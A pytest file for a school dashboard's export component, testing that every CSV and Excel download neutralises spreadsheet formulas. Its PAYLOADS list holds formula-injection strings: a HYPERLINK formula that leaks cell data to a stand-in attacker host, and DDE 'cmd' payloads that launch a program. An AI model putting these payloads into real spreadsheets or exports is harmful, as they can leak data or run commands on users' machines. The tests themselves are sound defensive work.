"""Every CSV and Excel file the app offers goes through THE neutralising writer
(dashboard/components/exports.py): no page writes one itself (a source check), and every download
button of every page, pressed with formula payloads in the data (school names, a user name typed
on the login page, a load report, a visit's purpose), gives a file in which no cell can run as a
formula (issue 19: the audit log, Schools and Loads pages wrote raw CSV)."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
import streamlit as st
from openpyxl import load_workbook
from streamlit.delta_generator import DeltaGenerator

from dashboard import access, demo_users
from dashboard.components import exports
from dashboard.data_access import visits as visits_access
from dashboard.store import throttle, visits
from tests.dashboard import tiny_warehouse
from tests.pages.helpers import login, open_sections

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]


def test_no_page_or_component_writes_a_spreadsheet_itself():
    """Only exports.py calls to_csv / to_excel or builds a workbook."""
    writer = ROOT / "dashboard" / "components" / "exports.py"
    raw = re.compile(r"\.to_csv\(|\.to_excel\(|openpyxl|csv\.writer|xlsxwriter")
    offenders = [
        f"{path.relative_to(ROOT)}:{n}"
        for folder in ("pages", "dashboard")
        for path in sorted((ROOT / folder).rglob("*.py"))
        if path != writer
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if raw.search(line)
    ]
    assert offenders == []


@pytest.fixture
def pressed(monkeypatch):
    """Record the bytes of every download button drawn (a deferred file is made, as a click would)."""
    files: list[dict] = []
    original = DeltaGenerator.download_button

    def record(self, label, data, file_name=None, mime=None, *args, **kwargs):
        made = data() if callable(data) else data
        files.append({"label": label, "name": file_name or "", "mime": mime or "", "data": made})
        return original(self, label, data, file_name, mime, *args, **kwargs)

    monkeypatch.setattr(DeltaGenerator, "download_button", record)
    monkeypatch.setattr(st, "download_button", lambda *a, **k: record(st._main, *a, **k))
    return files


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_no_formula(file: dict) -> int:
    """Check one downloaded file; the number of spreadsheet cells checked."""
    data = file["data"].encode() if isinstance(file["data"], str) else file["data"]
    cells = 0
    if file["name"].endswith(".csv") or "csv" in file["mime"]:
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            for cell in row:
                cells += 1
                assert not (exports.is_formula_like(cell) and not _is_number(cell)), (
                    file["label"],
                    cell,
                )
    elif file["name"].endswith(".xlsx"):
        book = load_workbook(io.BytesIO(data))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    cells += 1
                    assert cell.data_type != "f", (file["label"], cell.coordinate, cell.value)
                    if exports.is_formula_like(cell.value):
                        assert cell.quotePrefix, (file["label"], cell.coordinate)
    return cells


def walk(username: str, files: list[dict]) -> set[str]:
    """Open every page of ``username``'s role; the labels of the spreadsheet downloads seen."""
    at = login(username)
    role = next(u.role for u in __import__("dashboard.store.users").store.users.list_users()
                if u.username == username)  # fmt: skip
    for spec in access.pages_for(role):
        at.switch_page(f"../pages/{spec.file}").run()
        assert not at.exception, (username, spec.id, at.exception)
        if spec.id in ("overview", "profile", "priority"):  # sections made when opened: theirs too
            open_sections(at)
    labels = set()
    for file in files:
        if assert_no_formula(file):
            labels.add(file["label"])
    return labels


@pytest.fixture
def payload_env(tmp_path, monkeypatch):
    """The tiny warehouse with formula payloads as school names, districts and types; a load
    report and failed sign-ins carrying them too."""
    schools = [
        (u, PAYLOADS[i % len(PAYLOADS)] if i % 2 else n, la, PAYLOADS[i % 3], p, t, pupils)
        for i, (u, n, la, d, p, t, pupils) in enumerate(tiny_warehouse.SCHOOLS)
    ]
    warehouse = tiny_warehouse.build(tmp_path, schools=schools)
    store = tmp_path / "store.sqlite"
    monkeypatch.setenv("SID_WAREHOUSE", str(warehouse))
    monkeypatch.setenv("SID_STORE_PATH", str(store))
    monkeypatch.setenv("SID_DEPLOYMENT", "full")
    demo_users.create_demo_users(warehouse, store)
    report = {"run_id": PAYLOADS[0], "source_dir": PAYLOADS[1], "status": PAYLOADS[2]}
    (tmp_path / "load_reports.jsonl").write_text(json.dumps(report) + "\n", encoding="utf-8")
    for payload in PAYLOADS:
        login(payload.strip(), "not a password")
    throttle.record_success("", "127.0.0.1")  # those failures made this client wait: forgiven
    return tmp_path


def test_every_download_of_the_admin_and_schools_pages_is_neutralised(payload_env, pressed):
    labels = walk("admin", pressed)
    assert {
        "Download the audit log (CSV)",
        "Download load reports (CSV)",
        "Download these schools (CSV)",
    } <= labels
    audit_csv = next(f for f in pressed if f["label"].startswith("Download the audit log"))
    assert "'=HYPERLINK(" in audit_csv["data"].decode("utf-8-sig")  # the payload is there, inert
    schools_csv = next(f for f in pressed if f["label"].startswith("Download these schools"))
    assert "'+cmd|" in schools_csv["data"].decode("utf-8-sig")


def test_every_download_of_every_manager_page_is_neutralised(county_env, pressed):
    """The county built by the real ETL, with payloads in visit purposes: priority list, visit
    plan (CSV and Excel), every chart's data, schools, briefing."""
    manager = access.identity_for("manager", "Demo improvement manager", access.MANAGER, [])
    term = visits_access.term_choices(manager)[1]
    for i, payload in enumerate(PAYLOADS[:3]):
        urn = int(
            __import__("dashboard.data_access").data_access.list_schools(manager)["urn"].iloc[i]
        )
        visits.plan_visit(urn, "manager", term, "manager", purpose=payload)
    labels = walk("manager", pressed)
    assert {
        "Download the visit plan (Excel)",
        "Download the visit plan (CSV)",
        "Download the plan (Excel)",
        "Download the plan (CSV)",
        "Download these schools (CSV)",
    } <= labels, labels
    assert sum(label.startswith("Download the data for") for label in labels) >= 5
    plan = next(f for f in pressed if f["label"] == "Download the plan (CSV)")
    assert "'=HYPERLINK(" in plan["data"].decode("utf-8-sig")
